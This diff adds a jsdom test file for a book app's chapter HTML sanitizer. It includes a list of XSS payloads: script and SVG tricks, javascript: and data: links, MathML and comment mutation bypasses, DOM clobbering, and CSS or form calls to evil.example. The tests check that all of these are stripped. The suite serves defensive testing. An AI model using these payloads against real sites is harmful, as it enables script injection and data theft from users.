@@ -1,0 +1,114 @@
+// @vitest-environment jsdom
+import { expect, it, vi } from 'vitest';
+import { blocksOf, chapterFragment } from '../../src/features/books/chapter-html.ts';
+
+const ran = vi.fn<() => void>();
+
+function shown(html: string, pictures: readonly string[] = []): HTMLElement {
+  Object.assign(globalThis, { ran });
+  const host = document.createElement('div');
+  host.append(chapterFragment(html, pictures));
+  document.body.replaceChildren(host);
+  return host;
+}
+
+/** Names of all attributes that are left. */
+const attributes = (host: HTMLElement): string[] => [
+  ...new Set([...host.querySelectorAll('*')].flatMap((element) => element.getAttributeNames())),
+];
+
+const hostile: [string, string][] = [
+  ['a script', '<script>ran()</script>'],
+  ['a script in an SVG', '<svg><script>ran()</script></svg>'],
+  ['an SVG that loads', '<svg onload="ran()"><circle r="4"/></svg>'],
+  ['an SVG that animates an address', '<svg><a><animate attributeName="href" values="javascript:ran()"/></a></svg>'],
+  ['an SVG with a page inside', '<svg><foreignObject><iframe srcdoc="<script>ran()</script>"/></foreignObject></svg>'],
+  ['a picture that fails', '<img src="x" onerror="ran()" data-picture="9">'],
+  ['an element that is pointed at', '<p onmouseover="ran()" onfocus="ran()" tabindex="0" autofocus>Words</p>'],
+  ['a link that is a script', '<a href="javascript:ran()">Go</a><a href=" java&#10;script:ran()">Go</a>'],
+  ['a link that is data', '<a href="data:text/html,<script>ran()</script>">Go</a>'],
+  ['a frame', '<iframe src="https://evil.example"></iframe><frameset><frame src="x"></frameset>'],
+  ['an object', '<object data="x.swf"><embed src="x.swf"></object><applet code="x"></applet>'],
+  [
+    'a page that leads elsewhere',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="//evil">',
+  ],
+  ['a style', '<style>@import url(https://evil.example/a.css); p { background: url(https://evil.example) }</style>'],
+  ['a style at an element', '<p style="background:url(https://evil.example);position:fixed">Words</p>'],
+  ['a sheet of styles', '<link rel="stylesheet" href="https://evil.example/a.css">'],
+  [
+    'a form',
+    '<form action="https://evil.example"><input name="password"><button formaction="javascript:ran()">Go</button>',
+  ],
+  ['a film', '<video src="https://evil.example/a.mp4" autoplay onplay="ran()"></video><audio src="x"></audio>'],
+  [
+    'MathML that leads elsewhere',
+    '<math><maction actiontype="statusline" href="javascript:ran()"><mi>x</mi></maction></math>',
+  ],
+  [
+    'MathML that hides HTML',
+    '<math><mtext><table><mglyph><style><img src=x onerror="ran()"></style></mglyph></table></mtext></math>',
+  ],
+  ['a comment that hides HTML', '<!--><img src=x onerror="ran()">--><p>Words</p>'],
+  [
+    'a template',
+    '<template><img src=x onerror="ran()"></template><noscript><p title="</noscript><img src=x onerror=ran()>">',
+  ],
+  [
+    'names that shadow the page’s own',
+    '<img name="getElementById" data-picture="9"><form id="documentElement"></form>',
+  ],
+];
+
+it.each(hostile)('%s of a book does nothing', async (_, html) => {
+  const host = shown(`<p>Before</p>${html}<p>After</p>`);
+  for (const element of host.querySelectorAll('*')) element.dispatchEvent(new Event('click', { bubbles: true }));
+  await new Promise((resolve) => setTimeout(resolve, 0));
+  expect(ran).not.toHaveBeenCalled();
+  const refused =
+    'script,style,link,meta,base,iframe,frame,object,embed,applet,form,input,button,video,audio,svg,template';
+  expect(host.querySelectorAll(refused)).toHaveLength(0);
+  expect(attributes(host).filter((name) => /^on|^style$|^src|^srcdoc$|^autofocus$|^name$|action/.test(name))).toEqual(
+    [],
+  );
+  expect(host.innerHTML).not.toMatch(/javascript:|data:text|evil\.example/i);
+  expect(host.textContent).toContain('Before');
+});
+
+it('words keep their shape: direction, language, tables, formulas, ruby', () => {
+  const host = shown(`<section dir="rtl" lang="ar"><p>مرحبا <bdi>x</bdi></p></section>
+    <table><tbody><tr><th colspan="2">A</th></tr></tbody></table><ol start="3"><li value="4">Four</li></ol>
+    <math display="block"><mfrac><mi>a</mi><mn>2</mn></mfrac></math><ruby>漢<rt>kan</rt></ruby>`);
+  expect(host.querySelector('section')?.dir).toBe('rtl');
+  expect(host.querySelector('section')?.lang).toBe('ar');
+  expect(host.querySelector('th')?.colSpan).toBe(2);
+  expect(host.querySelector('ol')?.start).toBe(3);
+  expect(host.querySelector('math')?.getAttribute('display')).toBe('block');
+  expect(host.querySelector('math')?.namespaceURI).toBe('http://www.w3.org/1998/Math/MathML');
+  expect(host.querySelector('rt')?.textContent).toBe('kan');
+});
+
+it('pictures are this page’s own copies; one that is not there goes', () => {
+  const html =
+    '<img data-picture="1" alt="Two"><img data-picture="7" alt="None"><img src="https://evil.example/a.png">';
+  const images = shown(html, ['blob:one', 'blob:two']).querySelectorAll('img');
+  expect([...images].map(({ src, alt }) => [src, alt])).toEqual([['blob:two', 'Two']]);
+});
+
+it('links lead into the book, or out of the app and tell nothing', () => {
+  const links = shown(
+    '<a href="#2/end">On</a><a href="https://example.org/">Out</a><a href="/profile">App</a><a href="http://example.org/">Plain</a>',
+  ).querySelectorAll('a');
+  expect([...links].map(({ target, rel }) => [target, rel])).toEqual([
+    ['', ''],
+    ['_blank', 'noopener noreferrer'],
+    ['', ''],
+    ['', ''],
+  ]);
+  expect([...links].map((link) => link.getAttribute('href'))).toEqual(['#2/end', 'https://example.org/', null, null]);
+});
+
+it('counts what stands one after the other', () => {
+  const host = shown('<h1>One</h1><p>Two</p><ul><li>Three</li></ul><math><mi>x</mi></math>');
+  expect(blocksOf(host).map(({ textContent }) => textContent)).toEqual(['One', 'Two', 'Three', 'x']);
+});
